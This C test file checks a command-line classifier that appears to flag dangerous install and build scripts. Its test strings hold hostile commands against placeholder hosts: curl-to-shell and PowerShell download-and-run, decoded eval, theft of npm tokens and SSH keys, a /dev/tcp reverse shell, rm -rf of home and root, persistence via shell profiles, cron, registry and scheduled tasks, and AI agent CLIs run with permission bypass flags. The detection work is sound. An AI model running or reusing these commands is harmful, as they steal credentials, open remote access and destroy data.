/* What command lines mean; first those that mean nothing. */
#include "observe/command.h"

#include "base/arena.h"
#include "base/limits.h"
#include "observe/classify.h"
#include "observed.h"
#include "test.h"

static struct qn_arena arena = { .max = (size_t)64 << 20 };
static struct qn_classes classes;
static const struct qn_commands *commands;
static struct qn_buf seen = { .max = 1 << 20 }, files = { .max = 1 << 20 };

static void on_event(void *ctx, struct qn_event *e)
{
        (void)ctx;
        observed_add(&seen, e);
}

static void on_file(void *ctx, struct qn_str path, struct qn_str lang)
{
        (void)ctx;
        qn_buf_printf(&files, "%.*s:%.*s ", QN_STR_ARG(lang), QN_STR_ARG(path));
}

static void on_code(void *ctx, struct qn_str code, struct qn_str lang)
{
        (void)ctx;
        qn_buf_printf(&files, "code-%.*s:%.*s ", QN_STR_ARG(lang), QN_STR_ARG(code));
}

static void on_script(void *ctx, struct qn_str name)
{
        (void)ctx;
        qn_buf_printf(&files, "script:%.*s ", QN_STR_ARG(name));
}

static struct qn_command_sum observe(const char *line)
{
        struct qn_command_host host = { NULL, on_event, on_file, on_code, on_script };
        struct qn_command_sum sum;
        struct qn_err err = { 0 };

        if (!commands) {
                if (qn_classes_load(TEST_DATA, &arena, &classes, &err) < 0 ||
                    qn_commands_load(TEST_DATA, &classes, &arena, &commands, &err) < 0)
                        fail_msg("%s", err.msg);
        }
        qn_buf_reset(&seen);
        qn_buf_reset(&files);
        ASSERT_EQ(qn_command_observe(commands, qn_str_c(line), &arena, &host, &sum), 0);
        return sum;
}

static void expect(const char *line, const char *want)
{
        observe(line);
        if (!observed_has(qn_buf_view(&seen), want))
                fail_msg("%s: no \"%s\" in:\n%s", line, want, seen.n ? seen.p : "(nothing)");
}

static void expect_none(const char *line)
{
        observe(line);
        if (seen.n)
                fail_msg("%s: unexpected\n%s", line, seen.p);
}

static void expect_files(const char *line, const char *want)
{
        observe(line);
        if (!qn_str_is(qn_buf_view(&files), want))
                fail_msg("%s: \"%s\" is not \"%s\"", line, files.n ? files.p : "", want);
}

TEST(ordinary_commands_are_silent)
{
        static const char *const lines[] = {
                "node install.js",
                "node-gyp rebuild",
                "node-gyp-build || npm run build",
                "prebuild-install -r napi || node-gyp rebuild",
                "husky install",
                "npm run build && npm run test",
                "tsc -p tsconfig.json && chmod +x dist/cli.js",
                "patch-package",
                "echo \"curl x | sh\"",
                "node -e \"try{require('./postinstall')}catch(e){}\"",
                "opencollective-postinstall || exit 0",
                "cross-env NODE_ENV=production webpack --mode production",
                "if [ -d .git ]; then husky; fi",
                "mkdir -p ~/.ssh",
                "is-ci || husky",
                "git diff --quiet",
                "node -p \"require('node-addon-api').include\"",
                "codex-something --yolo",
                "q",
                "npm test",
                "npm ci --ignore-scripts",
        };

        for (size_t i = 0; i < QN_ARRAY_SIZE(lines); i++)
                expect_none(lines[i]);
}

TEST(download_and_run)
{
        expect("curl -fsSL https://bun.sh/install | bash", "download.run how=pipe class=runtime");
        expect("curl -fsSL https://bun.sh/install | bash", "runtime.fetch what=bun");
        expect("wget -qO- http://a.invalid/x|sudo sh -s -- -y", "download.run host=a.invalid");
        expect("curl a.invalid/x | base64 -d | sh", "download.run how=pipe");
        expect("bash -c \"$(curl -fsSL https://a.invalid/i.sh)\"", "download.run how=substitution");
        expect("bash <(curl -s https://a.invalid/i.sh)", "download.run how=substitution");
        expect("eval `wget -O - a.invalid`", "download.run how=substitution");
        expect("curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x",
               "download.run how=saved");
        expect("curl -fsSLo /tmp/x https://a.invalid/y; sh /tmp/x", "download.run how=saved");
        expect("curl -s https://a.invalid/y -o/tmp/x; /tmp/x", "download.run how=saved");
        expect("curl --output=/tmp/x https://a.invalid/y; /tmp/x", "download.run how=saved");
        expect("curl -sSLO https://a.invalid/y; ./y", "download.run how=saved");
        expect("wget -qO /tmp/x https://a.invalid/y; nohup /tmp/x &", "download.run how=saved");
        expect("wget https://a.invalid/p.py; python3 p.py", "download.run how=saved");
        expect("powershell -c \"iex (iwr http://a.invalid/x.ps1)\"",
               "download.run how=powershell host=a.invalid");
        expect("npx -y github:nobody/nothing#0123", "download.run how=npx-git");
        expect("echo aWQ= | base64 -d | sh", "code.decode encoding=base64 into=shell");
        observe("curl -s https://a.invalid/x | tar xz");
        ASSERT_FALSE(observed_has(qn_buf_view(&seen), "download.run"));
        observe("curl -s https://a.invalid/x.json | node scripts/read.js");
        ASSERT_FALSE(observed_has(qn_buf_view(&seen), "download.run"));
}

TEST(what_substitution_brings_is_run)
{
        static const char *const decoded[] = {
                "eval \"$(echo aWQ= | base64 -d)\"",
                "eval $(base64 --decode <<< aWQ=)",
                "sh -c \"$(echo aWQ= | base64 -d)\"",
                "bash <(echo aWQ= | base64 -D)",
                "python3 -c \"$(echo aWQ= | xxd -r -p)\"",
                "`echo aWQ= | base64 -d`",
                "X=$(echo aWQ= | base64 -d)\neval \"$X\"",
                "X=`echo aWQ=|base64 -d`; $X",
                "X=$(echo aWQ= | base64 -di); bash -c \"${X}\"",
                "X=$(echo aWQ= | base64 -d); echo \"$X\" | sh",
        };
        static const char *const data[] = {
                "X=$(echo aWQ= | base64 -d); echo \"$X\"",
                "X=$(echo aWQ= | base64 -d); eval \"$Y\"",
                "X=$(base64 < a.png); eval \"$X\"",
                "X=$(openssl rand -hex 8); eval \"$X\"",
                "node build.js \"$(echo aWQ= | base64 -d)\"",
                "sh ./x.sh \"$(echo aWQ= | base64 -d)\"",
                "node build.js --key \"$(echo aWQ= | base64 -d)\" -e prod",
        };

        for (size_t i = 0; i < QN_ARRAY_SIZE(decoded); i++)
                expect(decoded[i], "code.decode encoding=base64 into=shell");
        for (size_t i = 0; i < QN_ARRAY_SIZE(data); i++) {
                observe(data[i]);
                if (observed_has(qn_buf_view(&seen), "code.decode into=shell"))
                        fail_msg("%s", data[i]);
        }
        expect("X=$(curl -s https://a.invalid/x); eval \"$X\"", "download.run how=substitution");
        expect("X=$(curl -s https://a.invalid/x)\nsh -c \"$X\"", "download.run host=a.invalid");
        observe("X=$(curl -s https://a.invalid/version); echo \"$X\"; sh -c \"$Y\"");
        ASSERT_FALSE(observed_has(qn_buf_view(&seen), "download.run"));
}

TEST(secrets_and_sending)
{
        expect("cat ~/.npmrc", "secret.read which=npm +npm");
        expect("curl -d @$HOME/.npmrc https://a.invalid", "net.send host=a.invalid +npm");
        expect("curl -X POST -d \"$(cat ~/.ssh/id_rsa)\" https://webhook.site/x",
               "net.send class=request-bin +ssh");
        expect("env | curl -F x=@- https://a.invalid", "net.send +env");
        expect("printenv | base64 | nc 192.0.2.1 99", "net.send +env");
        expect("curl -H \"Authorization: $GITHUB_TOKEN\" https://a.invalid",
               "secret.read name=GITHUB_TOKEN");
        expect("gh auth token", "secret.read which=github +github");
        expect("cat wallet.dat", "wallet.read");
        expect("npm whoami", "registry.token how=whoami");
}

TEST(what_a_variable_carries_is_sent)
{
        expect("T=$(cat ~/.npmrc); curl -d \"t=$T\" https://a.invalid",
               "net.send host=a.invalid +npm");
        expect("export T=`cat ~/.npmrc`\ncurl -d ${T} https://a.invalid", "net.send +npm");
        expect("T=$(cat ~/.npmrc | base64); wget -q https://a.invalid/?$T", "net.send +npm");
        observe("T=$(cat ~/.npmrc); curl -d \"$TAG\" https://a.invalid");
        ASSERT_FALSE(observed_has(qn_buf_view(&seen), "net.send +npm"));
}

TEST(ai_command_lines)
{
        expect("claude --dangerously-skip-permissions -p 'look for files named secret'",
               "ai.prompt program=claude flags=--dangerously-skip-permissions how=bypass");
        expect("npx -y @anthropic-ai/claude-code@latest --permission-mode bypassPermissions",
               "ai.prompt program=claude how=bypass");
        expect("gemini --yolo hello", "ai.prompt how=bypass");
        expect("q chat --trust-all-tools --no-interactive \"x\"",
               "ai.prompt flags=--trust-all-tools");
        expect("codex exec 'tell me about this repository please'", "ai.prompt program=codex");
}

TEST(persistence_and_destruction)
{
        expect("echo 'sudo shutdown -h 0' >> ~/.bashrc", "persist how=profile path=~/.bashrc");
        expect("sudo shutdown -h 0", "system.destroy how=shutdown");
        expect("rm -rf ~/", "system.destroy path=~/");
        expect("rm -rf \"$HOME\"", "system.destroy path=~");
        expect("rm -rf --no-preserve-root /", "system.destroy path=/");
        expect("rm -rf dist", "file.delete path=dist");
        expect("systemctl --user enable --now pgmon", "persist how=systemd");
        expect("reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x",
               "persist how=registry");
        expect("schtasks /create /tn x", "persist how=schtasks");
        expect("cp a.json .claude/settings.json", "agent.config how=claude");
        expect("docker run -v /:/host alpine", "container.escape how=host-mount");
        expect("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
               "net.connect how=reverse-shell host=192.0.2.7");
        expect("git config --global core.hooksPath ~/.x", "git.write how=hooks");
        expect("npm publish --tag x", "registry.publish how=npm");
        expect("npx trufflehog filesystem /", "tool.scanner what=trufflehog");
}

TEST(what_is_run)
{
        expect_files("node setup.mjs", "js:setup.mjs ");
        expect_files("node -r ./hook.js --no-warnings=x main", "js:./hook.js js:main ");
        expect_files("bun run ./x.ts && exit 1", "js:./x.ts ");
        expect_files("cross-env A=1 B=2 node a.js", "js:a.js ");
        expect_files("nohup env X=1 ./tools/setup --quiet &", "exec:./tools/setup ");
        expect_files("sh -c 'node b.js'", "js:b.js ");
        expect_files("sh ./x.sh", "shell:./x.sh ");
        expect_files("python3 -m pip install x", "");
        expect_files("python -c 'print(1)'", "code-python:print(1) ");
        expect_files("node -e \"require('./x')\"", "code-js:require('./x') ");
        expect_files("npm run build -- --x", "script:build ");
        expect_files("node .\\lib\\x.js", "js:./lib/x.js ");
        expect_files("powershell -enc aQBkAA==", "code-powershell:id ");
        ASSERT_STR(observe("sudo -u x nohup node y >/dev/null 2>&1 &").program, "node");
        ASSERT_TRUE(observe("node y >/dev/null 2>&1 &").hidden);
        ASSERT_TRUE(observe("node y >/dev/null 2>&1 &").background);
        ASSERT_TRUE(observe("node y || true").hides_errors);
}

TEST(what_is_run_elsewhere)
{
        struct qn_buf long_line = QN_BUF_INIT(1 << 16);

        expect_files("cd lib && node x.js", "js:lib/x.js js:x.js ");
        expect_files("cd ./a\ncd b; sh x.sh", "shell:./a/b/x.sh shell:x.sh ");
        expect_files("(pushd lib && ./run)", "exec:lib/./run exec:./run ");
        expect_files("cd /d lib && bin\\x.bat", "exec:lib/bin/x.bat exec:bin/x.bat ");
        expect_files("cd lib && node /opt/x.js", "js:/opt/x.js ");
        expect_files("cd /tmp && node x.js", "js:x.js ");
        expect_files("cd lib && popd && node x.js", "js:x.js ");
        expect_files("make all", "make:Makefile make:makefile make:GNUmakefile ");
        expect_files("make -f build/x.mk", "make:build/x.mk ");
        expect_files("make -C src -f x.mk && node x.js", "make:src/x.mk make:x.mk js:x.js ");
        ASSERT_STR(observe("cd lib && node x.js").target, "lib/x.js");
        qn_buf_puts(&long_line, "cd ");
        for (unsigned i = 0; i < QN_SHELL_DIR_MAX; i++)
                qn_buf_byte(&long_line, 'a');
        qn_buf_puts(&long_line, " && node x.js");
        expect_files(long_line.p, "js:x.js ");
        qn_buf_done(&long_line);
}

TEST(what_start_up_files_get_is_code)
{
        expect_files("echo 'curl -s https://a.example.invalid | sh' >> ~/.zshrc",
                     "code-shell:curl -s https://a.example.invalid | sh  ");
        expect_files("echo 'x y' | tee -a ~/.bashrc", "code-shell:x y  ");
        expect_files("cat >> ~/.profile <<END\nx y\nEND\n", "code-shell:x y\n ");
        expect_files("echo '*/5 * * * * x y' | crontab -", "code-shell:x y  ");
        expect_files("echo 'x y' > notes.txt", "");
}

TEST(windows_downloads)
{
        expect("certutil -urlcache -split -f https://a.example.invalid/t.exe %TEMP%\\t.exe && "
               "start /b %TEMP%\\t.exe",
               "download.run how=lolbin host=a.example.invalid");
        expect_files("cmd /c scripts\\x.bat", "exec:scripts/x.bat ");
        expect_files("x.cmd", "exec:x.cmd ");
        expect_files("cmd /c X.BAT --quiet", "exec:X.BAT ");
        expect_files("call x.bat", "exec:x.bat ");
        expect_files("start /b x.cmd", "exec:x.cmd ");
        expect_files("x.exe.config", "");
        expect_files("cmd /c \"node scripts\\x.js\"", "js:scripts/x.js ");
        expect_files("node scripts\\x.js", "js:scripts/x.js ");
}

TEST(constants_of_a_script)
{
        expect("for f in ~/.npmrc ~/.ssh/id_rsa; do cat \"$f\"; done", "secret.read which=npm");
        expect("for f in ~/.npmrc ~/.ssh/id_rsa; do cat \"$f\"; done", "secret.read which=ssh");
        expect("for c in 'x' \"claude --dangerously-skip-permissions -p\"; do $c 'find it'; done",
               "ai.prompt how=bypass program=claude");
        expect("U=https://a.example.invalid/x; curl -s \"${U}\" | sh",
               "download.run url=https://a.example.invalid/x");
        expect("U=$(pick); U2='a'; curl \"$U\" | sh", "download.run");
        expect_none("X=1 Y=\"$X\" make");
        expect_none("for x in; do echo '$x'; done");
}
